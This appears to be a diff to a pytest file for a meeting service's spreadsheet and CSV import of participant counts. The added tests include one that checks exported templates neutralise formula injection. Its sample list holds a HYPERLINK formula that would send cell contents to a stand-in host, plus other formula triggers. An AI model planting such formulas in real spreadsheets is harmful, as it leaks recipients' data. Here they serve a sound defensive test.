@@ -8,6 +8,7 @@ from openpyxl import Workbook, load_workbook
 from meetingsvc.extensions import db
 from meetingsvc.online import imports, services
 from meetingsvc.online.imports import UploadError
+from tests.online.conftest import PAST_DAY
 
 
 def xlsx(rows) -> bytes:
@@ -25,7 +26,7 @@ def csv_bytes(text: str) -> bytes:
 
 @pytest.fixture
 def meeting_with_points(online_meeting, city, add_points):
-    meeting = online_meeting()
+    meeting = online_meeting(day=PAST_DAY)
     points = add_points(meeting, city["districts"][:2], sites=["Trụ sở Thành ủy"], planned=50)
     return meeting, points
 
@@ -111,3 +112,60 @@ def test_the_template_round_trips(meeting_with_points):
     assert _actuals(points) == [11, 22, 33]
     text = imports.template_csv(meeting).decode("utf-8-sig")
     assert text.splitlines()[1].startswith("Q1,,Quận Ba Đình,50,11")
+
+
+def test_rows_are_named_by_their_number_in_the_file_below_a_title_and_blank_rows(meeting_with_points):
+    meeting, points = meeting_with_points
+    data = xlsx([["DANH SÁCH ĐIỂM CẦU HỘI NGHỊ"],           # row 1: a title
+                 [None],                                    # row 2: blank
+                 ["STT", "Mã đơn vị", "Số đại biểu thực tế"],  # row 3: the header, with a row-number column
+                 [1, "Q1", 30],                             # row 4
+                 [None, None, None],                        # row 5: blank
+                 [2, "Q7", 12],                             # row 6: unknown unit
+                 [3, "Q2", -3]])                            # row 7: negative
+    with pytest.raises(UploadError) as exc:
+        imports.import_actuals(meeting, "x.xlsx", data)
+    assert [n for n, _reason in exc.value.rows] == [6, 7]
+    db.session.rollback()
+    csv_data = csv_bytes("Danh sách điểm cầu;;\n;;\nunit_code;actual_participants\nQ1;30\n\nQ7;12\nQ2;-3\n")
+    with pytest.raises(UploadError) as exc:
+        imports.import_actuals(meeting, "x.csv", csv_data)
+    assert [n for n, _reason in exc.value.rows] == [6, 7]
+    db.session.rollback()
+    imports.import_actuals(meeting, "ok.xlsx", xlsx([["Kết quả"], [], ["Mã đơn vị", "Số đại biểu thực tế"],
+                                                     ["Q1", 30], ["Q2", 28]]))
+    assert _actuals(points) == [30, 28, None]
+
+
+def test_an_unknown_column_names_its_row(meeting_with_points):
+    meeting, _points = meeting_with_points
+    with pytest.raises(UploadError) as exc:
+        imports.import_actuals(meeting, "x.xlsx", xlsx([["Báo cáo"], ["unit_code", "màu", "actual_participants"]]))
+    assert "dòng 2" in exc.value.message and "màu" in exc.value.message
+
+
+FORMULAS = ["=HYPERLINK(\"http://x.example/?\"&A1,\"Bấm\")", "+1+1", "-2+3", "@SUM(1)"]
+
+
+def test_template_writes_formula_like_names_as_text_and_reads_them_back(online_meeting, add_points):
+    meeting = online_meeting(day=PAST_DAY)
+    points = add_points(meeting, sites=FORMULAS)
+    workbook = load_workbook(io.BytesIO(imports.template_xlsx(meeting)))
+    sheet = workbook.active
+    for row in sheet.iter_rows(min_row=2):
+        site, name = row[1], row[2]
+        assert site.data_type == "s" and name.data_type == "s"  # text, never a formula
+        assert site.quotePrefix and site.value in FORMULAS
+    for i, row in enumerate(sheet.iter_rows(min_row=2), start=1):
+        row[4].value = i  # filled in, as in a spreadsheet program, and saved
+    out = io.BytesIO()
+    workbook.save(out)
+    imports.import_actuals(meeting, "filled.xlsx", out.getvalue())
+    assert _actuals(points) == [1, 2, 3, 4]
+
+    text = imports.template_csv(meeting).decode("utf-8-sig")
+    cells = [line.split(",")[1] for line in text.splitlines()[1:]]
+    assert all(c.startswith(("'", "\"'")) for c in cells), cells  # an apostrophe first: text in a spreadsheet
+    filled = text.replace(",1\r\n", ",11\r\n").replace(",2\r\n", ",12\r\n")
+    imports.import_actuals(meeting, "filled.csv", filled.encode("utf-8"))
+    assert _actuals(points)[:2] == [11, 12]
